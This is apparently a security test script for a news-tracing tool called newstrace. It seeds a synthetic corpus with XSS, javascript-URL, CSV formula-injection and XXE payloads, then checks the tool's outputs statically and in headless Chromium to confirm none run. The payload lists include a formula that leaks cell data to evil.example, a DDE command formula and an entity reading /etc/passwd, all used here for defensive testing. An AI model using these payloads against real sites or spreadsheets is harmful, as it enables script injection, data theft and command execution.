"""Hostile content: XSS and injection payloads through every output, then checked statically and in Chromium.

A corpus in every input format carries the payloads in titles, URLs, outlet names, ids, texts and dates (and
spreadsheet formulas such as `=HYPERLINK(...)`). `newstrace analyze`, `network`, `errors --csv`, `query --csv` and
`diff --html` write every output. Then:
- static checks: JSON and JSONL parse and give the payloads back unchanged; GraphML and GEXF parse as XML with no
  DTD, entity or foreign element; Parquet reads back; no CSV cell a spreadsheet would run as a formula;
- Chromium (Debian's, through Playwright): report.html, diff.html, network.svg, the XML and text exports, and every
  page of `newstrace serve` over the same store (404 pages with a payload in the path and a check of a payload text
  included). A payload that runs calls `alert()` or `__pwn()`, or fetches from `evil.example`; each of these is
  counted, and so is every `securitypolicyviolation` event (the CSP would have had to block something).

    python benchmarks/hostile.py                       # needs chromium + playwright for the browser part
    python benchmarks/hostile.py --no-browser          # the static checks only

`tests/test_hostile.py` runs the static checks and `tests/test_browser.py` the browser walk in `make test`.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import re
import subprocess
import sys
import tempfile
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote

# Each payload that can run calls __pwn(N) (or alert(N)), so a hit names the payload.
SCRIPT_PAYLOADS = [
    "<script>__pwn(1)</script>",
    "\"><script>__pwn(2)</script>",
    "'><img src=x onerror=__pwn(3)>",
    "<svg onload=__pwn(4)>",
    "</textarea><script>__pwn(5)</script>",
    "</script><script>__pwn(6)</script>",
    "<iframe srcdoc=\"<script>parent.__pwn(7)</script>\"></iframe>",
    "<a href=\"javascript:__pwn(8)\">click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwn(9)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__pwn(10)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/y.css';</style>",
    "<input autofocus onfocus=__pwn(11)>",
    "<details open ontoggle=__pwn(12)>",
    "<!--<img src=\"--><img src=x onerror=__pwn(13)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=__pwn(14)>\">",
    "]]><script>__pwn(15)</script>",
    "<svg><script>__pwn(16)</script></svg>",
    "{{constructor.constructor('__pwn(17)')()}}",
    "${alert(18)}",
    "<img src=\"https://evil.example/beacon.gif\">",
    "<object data=\"javascript:__pwn(19)\"></object>",
    "<form action=\"https://evil.example/\"><button>go</button></form>",
    "\u2028\u2029</script><script>__pwn(20)</script>",
    "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "\x1b]0;pwned\x07\x1b[2J",
]
URL_PAYLOADS = [
    "javascript:__pwn(21)",
    "data:text/html,<script>__pwn(22)</script>",
    "https://evil.example/\"onmouseover=\"__pwn(23)",
    "vbscript:msgbox(24)",
    "https://news.example/a?x=<script>__pwn(25)</script>",
]
FORMULA_PAYLOADS = [
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DATE_PAYLOADS = ["<script>__pwn(26)</script>", "2025-03-04T08:00:00<img src=x onerror=__pwn(27)>", "=NOW()"]
ALL = SCRIPT_PAYLOADS + URL_PAYLOADS + FORMULA_PAYLOADS + DATE_PAYLOADS
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

STORY = [
    "The harbour master of Port Velmar said on Tuesday that the eastern breakwater would close for eleven weeks.",
    "Engineers told the council that the harbour master had approved the repair plan after the winter storms.",
    "Fishing crews will move to the western basin, the harbour master said, while pontoons are installed.",
    "Residents asked about lorry traffic, and the council promised a route plan before the work begins.",
]


def story_with(payload: str, k: int) -> str:
    """The story with `payload` inserted after each mention of the harbour master (a systematic insertion), and a
    sentence of its own, so that it shows in the reuse, edits and injection views."""
    text = "\n".join(STORY).replace("the harbour master", f"the harbour master, {payload},")
    return f"{text}\nStory {k} quotes {payload} in full."


def build_corpus(folder: Path) -> dict[str, int]:
    """Hostile inputs in every format. Returns how many records of each kind were written."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    folder.mkdir(parents=True, exist_ok=True)
    base = "\n".join(STORY)
    lines = [{"id": "clean-source", "url": "https://harbour.example/breakwater", "outlet": "harbour.example",
              "published": "2025-03-01T08:00:00Z", "title": "Breakwater to close", "text": base}]
    for k, p in enumerate(SCRIPT_PAYLOADS + FORMULA_PAYLOADS):
        lines.append({"id": f"h{k}-{p}", "url": URL_PAYLOADS[k % len(URL_PAYLOADS)],
                      "outlet": p if k % 3 == 0 else f"outlet{k % 4}.example",
                      "published": f"2025-03-0{2 + k % 7}T0{k % 10}:00:00Z", "title": p,
                      "text": story_with(p, k)})
    for k, p in enumerate(DATE_PAYLOADS):  # an unreadable date is reported, with the payload in the reason
        lines.append({"id": f"d{k}", "published": p, "title": p, "text": story_with(p, 100 + k)})
    (folder / "feed.jsonl").write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), "utf-8")

    with (folder / "sheet.csv").open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "url", "outlet", "published", "title", "text"])
        for k, p in enumerate(FORMULA_PAYLOADS):
            w.writerow([f"csv{k}", f"https://sheet.example/{k}", p, "2025-03-09", p, story_with(p, 200 + k)])

    pages = folder / "pages"
    pages.mkdir(exist_ok=True)
    for k, p in enumerate(SCRIPT_PAYLOADS[:12]):
        title, url = p, URL_PAYLOADS[k % len(URL_PAYLOADS)]
        body = "".join(f"<p>{line}</p>" for line in story_with(p, 300 + k).split("\n"))
        # the payload is raw markup here, as a hostile page would hold it: the extractor must drop or text it
        (pages / f"page{k}.html").write_text(
            f"<html><head><title>{title}</title><link rel=\"canonical\" href=\"{url}\">"
            f"<meta property=\"article:published_time\" content=\"{DATE_PAYLOADS[k % 3]}\"></head>"
            f"<body><article><h1>{title}</h1>{body}{p}</article></body></html>", "utf-8")

    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=True)
    for k, url in enumerate(URL_PAYLOADS):
        html = f"<html><body><article><p>{story_with(SCRIPT_PAYLOADS[k], 400 + k)}</p></article></body></html>"
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(url.replace(" ", "%20"), "response",
                                                      payload=io.BytesIO(html.encode()), http_headers=headers))
    (folder / "crawl.warc.gz").write_bytes(buffer.getvalue())
    (folder / "copy.txt").write_text(story_with(SCRIPT_PAYLOADS[0], 500), "utf-8")
    (folder / "source.txt").write_text(base, "utf-8")
    return {"jsonl": len(lines), "csv": len(FORMULA_PAYLOADS), "html": 12, "warc": len(URL_PAYLOADS)}


def newstrace(*args: str, stdout: Path | None = None) -> None:
    cmd = [sys.executable, "-m", "newstrace.cli", *args]
    result = subprocess.run(cmd, capture_output=True, text=True)
    if stdout is not None:
        stdout.write_text(result.stdout, encoding="utf-8")
    if result.returncode != 0:
        raise SystemExit(f"{' '.join(args)} failed: {result.stderr[-2000:]}")


def write_outputs(corpus: Path, out: Path) -> Path:
    """Every output of the hostile corpus into `out`; returns the store."""
    db = out / "newstrace.duckdb"
    newstrace("analyze", str(corpus), "--out", str(out), "--quiet")
    newstrace("network", "--db", str(db), "--out", str(out / "net"))
    newstrace("errors", "--db", str(db), "--csv", stdout=out / "errors.csv")
    newstrace("errors", "--db", str(db), "--json", stdout=out / "errors.json")
    newstrace("query", str(corpus / "copy.txt"), "--db", str(db), "--csv", stdout=out / "query.csv")
    newstrace("query", str(corpus / "copy.txt"), "--db", str(db), "--json", stdout=out / "query.json")
    newstrace("diff", str(corpus / "source.txt"), str(corpus / "copy.txt"), "--html", str(out / "diff.html"))
    return db


# ---- static checks ----------------------------------------------------------------------------------------------


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)] + [k for k in value if isinstance(k, str)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def static_checks(out: Path) -> dict[str, list[str]]:
    """Problems found in the files (empty lists: all inert). Keys: the kind of check."""
    import pyarrow.parquet as pq

    found: dict[str, list[str]] = {"json": [], "xml": [], "csv": [], "parquet": [], "roundtrip": []}
    seen: set[str] = set()
    for path in [*out.glob("*.jsonl"), out / "errors.json", out / "query.json"]:
        text = path.read_text("utf-8")
        try:
            docs = [json.loads(ln) for ln in text.splitlines() if ln.strip()] if path.suffix == ".jsonl" \
                else [json.loads(text)]
        except json.JSONDecodeError as exc:
            found["json"].append(f"{path.name}: {exc}")
            continue
        for doc in docs:
            seen.update(s for s in _strings(doc) for p in ALL if p in s)
    # The payloads that reach the articles as given (ids, titles, outlets of the JSONL lines) come back unchanged.
    titles = set()
    for ln in (out / "articles.jsonl").read_text("utf-8").splitlines():  # split as a naive consumer would
        try:
            titles.add(json.loads(ln)["title"])
        except json.JSONDecodeError as exc:
            found["json"].append(f"articles.jsonl, split with str.splitlines(): {exc}")
    for p in SCRIPT_PAYLOADS + FORMULA_PAYLOADS:
        if p not in titles:
            found["roundtrip"].append(f"title {p!r} is not in articles.jsonl as given")
    for path in [out / "network.graphml", out / "net" / "network.graphml", out / "net" / "network.gexf"]:
        raw = path.read_text("utf-8")
        if "<!DOCTYPE" in raw or "<!ENTITY" in raw or "<?xml-stylesheet" in raw:
            found["xml"].append(f"{path.name}: holds a DTD, an entity or a stylesheet instruction")
        try:
            root = ET.fromstring(raw.encode())
        except ET.ParseError as exc:
            found["xml"].append(f"{path.name}: {exc}")
            continue
        spaces = {el.tag.split("}")[0].lstrip("{") for el in root.iter() if el.tag.startswith("{")}
        foreign = spaces - {"http://graphml.graphdrawing.org/xmlns", "http://gexf.net/1.2", "http://www.gexf.net/1.2draft",
                            "http://gexf.net/1.2draft", "http://www.gexf.net/1.1draft", "http://gexf.net/1.3",
                            "http://www.gexf.net/1.3"}
        if foreign:
            found["xml"].append(f"{path.name}: elements from {sorted(foreign)}")
        names = [el.get("id") or "" for el in root.iter() if el.tag.endswith("node")]
        outlets = [p for p in SCRIPT_PAYLOADS[::3]]
        for p in outlets:
            clean = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", p)
            if clean not in names:
                found["xml"].append(f"{path.name}: outlet {p!r} is not a node, as given")
    for path in [out / "net" / "outlets.csv", out / "net" / "outlet_edges.csv", out / "errors.csv", out / "query.csv"]:
        with path.open(encoding="utf-8", newline="") as f:
            for n, row in enumerate(csv.reader(f), 1):
                for cell in row:
                    if cell.startswith(FORMULA_START) and not _number(cell):
                        found["csv"].append(f"{path.name}:{n}: a cell a spreadsheet would run: {cell[:60]!r}")
    table = pq.read_table(out / "reuse.parquet").to_pylist()
    reuse = [json.loads(ln) for ln in (out / "reuse.jsonl").read_text("utf-8").splitlines()]
    if [(r["source"], r["copy"]) for r in table] != [(r["source"], r["copy"]) for r in reuse]:
        found["parquet"].append("reuse.parquet does not hold reuse.jsonl's pairs, ids unchanged")
    found["payloads_seen_in_json"] = [] if len(seen) >= len(SCRIPT_PAYLOADS) else [f"only {len(seen)} payload strings"]
    return found


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


# ---- the browser walk -------------------------------------------------------------------------------------------

INIT = """
window.__pwned = [];
window.__pwn = function (n) { window.__pwned.push(String(n)); };
window.alert = function (n) { window.__pwned.push("alert " + n); };
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
});
"""
BROWSER_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run"]


def serve(db: Path) -> tuple[str, object, threading.Thread]:
    import socket

    import uvicorn

    from newstrace.web.app import create_app

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(db), host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.time() + 30
    while not server.started and time.time() < deadline:
        time.sleep(0.05)
    return f"http://127.0.0.1:{port}", server, thread


def app_urls(db: Path, base: str) -> list[str]:
    import duckdb

    con = duckdb.connect(str(db), read_only=True)
    ids = [r[0] for r in con.execute("SELECT id FROM articles ORDER BY id").fetchall()]
    fams = [r[0] for r in con.execute("SELECT family FROM families").fetchall()]
    pairs = con.execute("SELECT source, copy FROM reuse_pairs LIMIT 20").fetchall()
    con.close()
    urls = ["/", "/families", "/articles", "/outlets", "/network", "/network.svg", "/check", "/index.json"]
    urls += [f"/article/{quote(i, safe='')}" for i in ids] + [f"/article/{quote(ids[0], safe='')}.json"]
    urls += [f"/family/{quote(f, safe='')}" for f in fams]
    urls += [f"/pair?source={quote(s, safe='')}&copy={quote(c, safe='')}" for s, c in pairs]
    urls += [f"/articles?q={quote(p, safe='')}" for p in SCRIPT_PAYLOADS[:8]]
    urls += [f"/{quote(p, safe='')}" for p in SCRIPT_PAYLOADS[:8]]  # 404 pages that name the path
    urls += [f"/article/{quote(p, safe='')}" for p in SCRIPT_PAYLOADS[:4]]  # 404 for a missing article
    return [base + u for u in urls]


def file_urls(out: Path, tmp: Path) -> list[str]:
    """The report, the diff page, the SVG, and the XML and text exports (as .xml and .txt, so Chromium shows them
    rather than downloading them)."""
    urls = [(out / "report.html").as_uri()]
    urls += [(out / "report.html").as_uri() + anchor for anchor in ("#families-1", "#articles", "#outlets",
                                                                      "#network")]
    html = (out / "report.html").read_text("utf-8")
    sections = re.findall(r'<section class="page" id="([af]-[0-9a-f]+)"', html)
    urls += [(out / "report.html").as_uri() + "#" + a for a in sections]
    urls += [(out / "diff.html").as_uri(), (out / "net" / "network.svg").as_uri()]
    for path in [out / "network.graphml", out / "net" / "network.gexf"]:
        copy = tmp / (path.name + ".xml")
        copy.write_bytes(path.read_bytes())
        urls.append(copy.as_uri())
    for path in [out / "articles.jsonl", out / "net" / "outlets.csv", out / "errors.csv"]:
        copy = tmp / (path.name + ".txt")
        copy.write_bytes(path.read_bytes())
        urls.append(copy.as_uri())
    return urls


CONTROLS = {
    # Pages that must trip the detectors, so a zero below means "nothing ran", not "nothing was watched".
    "control-run.html": "<html><body><script>__pwn('control')</script><img src=x onerror=\"__pwn('control')\">"
                        "</body></html>",
    "control-csp.html": "<html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\">"
                        "</head><body><script>__pwn('blocked')</script></body></html>",
}


def control_urls(tmp: Path) -> list[str]:
    urls = []
    for name, html in CONTROLS.items():
        (tmp / name).write_text(html, "utf-8")
        urls.append((tmp / name).as_uri())
    return urls


def split_controls(walk: dict) -> dict:
    """Move the control pages' hits out of the counts; fail loudly when a detector missed its control."""
    got = {k: [x for x in walk[k] if "control-" in x] for k in ("executed", "csp")}
    if len(got["executed"]) < 2 or not got["csp"]:
        raise SystemExit(f"the detectors missed their control pages: {got}")
    return {**walk, **{k: [x for x in walk[k] if "control-" not in x] for k in ("executed", "csp")},
            "controls": {k: len(v) for k, v in got.items()}}


def browser_walk(browser: object, urls: list[str], check_base: str | None = None) -> dict:
    """Visit every URL in a Playwright `browser`; count payloads run, CSP violations, requests to other hosts,
    dialogs and page errors."""
    result = {"pages": 0, "executed": [], "csp": [], "external": [], "errors": [], "dialogs": 0}
    context = browser.new_context()  # type: ignore[attr-defined]
    context.add_init_script(INIT)

    def route(r: object) -> None:
        url = r.request.url  # type: ignore[attr-defined]
        if url.startswith(("file:", "data:", "about:", "http://127.0.0.1")):
            r.continue_()  # type: ignore[attr-defined]
        else:
            result["external"].append(url)
            r.abort()  # type: ignore[attr-defined]

    context.route("**/*", route)
    page = context.new_page()
    page.set_default_timeout(15_000)
    page.on("dialog", lambda d: (result.__setitem__("dialogs", result["dialogs"] + 1), d.dismiss()))
    page.on("pageerror", lambda e: result["errors"].append(str(e)[:200]))

    def visit(url: str, action: object = None) -> None:
        page.goto(url, wait_until="load")
        if action is not None:
            action()  # type: ignore[operator]
        page.wait_for_timeout(50)
        state = page.evaluate("[window.__pwned || [], window.__csp || []]")
        result["executed"] += [f"{url[:100]}: {x}" for x in state[0]]
        result["csp"] += [f"{url[:100]}: {x}" for x in state[1]]
        result["pages"] += 1

    for url in urls:
        visit(url)
    report = next((u for u in urls if u.endswith("report.html")), None)
    if report:
        for p_ in SCRIPT_PAYLOADS[:6]:  # the report's client-side search, fed a payload
            visit(report + "#articles", lambda p_=p_: (page.fill("#q", p_), page.wait_for_timeout(30)))
    if check_base:
        for p_ in SCRIPT_PAYLOADS:  # the app's check form, fed a payload text
            visit(check_base + "/check", lambda p_=p_: (page.fill("textarea[name=text]", story_with(p_, 9)),
                                                        page.click("button[type=submit]"),
                                                        page.wait_for_load_state()))
    context.close()
    return result


def campaign(out: Path, db: Path, tmp: Path, browser: object) -> dict:
    """Serve the store, walk every file and app page (and the control pages), and count what ran."""
    base, server, thread = serve(db)
    try:
        urls = control_urls(tmp) + file_urls(out, tmp) + app_urls(db, base)
        return split_controls(browser_walk(browser, urls, check_base=base))
    finally:
        server.should_exit = True  # type: ignore[attr-defined]
        thread.join(10)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter, epilog=__doc__)
    ap.add_argument("--no-browser", action="store_true")
    ap.add_argument("--chromium", default="/usr/bin/chromium")
    ap.add_argument("--keep", type=Path, help="write the corpus and outputs here, and keep them")
    args = ap.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp_name:
        tmp = args.keep or Path(tmp_name)
        corpus, out = tmp / "corpus", tmp / "out"
        counts = build_corpus(corpus)
        db = write_outputs(corpus, out)
        static = static_checks(out)
        print(f"hostile corpus: {len(ALL)} payloads in {sum(counts.values())} records ({counts})")
        print()
        print("| check | problems |")
        print("|---|---:|")
        for kind, problems in static.items():
            print(f"| static: {kind} | {len(problems)} |")
        bad = sum(len(v) for v in static.values())
        if not args.no_browser:
            from playwright.sync_api import sync_playwright

            with sync_playwright() as p:
                browser = p.chromium.launch(executable_path=args.chromium, args=BROWSER_ARGS)
                walk = campaign(out, db, tmp, browser)
                browser.close()
            print(f"| Chromium: pages visited (2 control pages included) | {walk['pages']} |")
            print(f"| Chromium: control pages detected (runs, CSP violations) | {walk['controls']['executed']}, "
                  f"{walk['controls']['csp']} |")
            for key, label in (("executed", "payloads executed"), ("dialogs", "alert dialogs"),
                               ("csp", "CSP violations"), ("external", "requests to other hosts"),
                               ("errors", "page errors")):
                value = walk[key] if isinstance(walk[key], int) else len(walk[key])
                print(f"| Chromium: {label} | {value} |")
                bad += value
            for key in ("executed", "csp", "external", "errors"):
                for line in walk[key][:10]:
                    print(f"- {key}: {line}")
        for kind, problems in static.items():
            for line in problems[:10]:
                print(f"- {kind}: {line}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
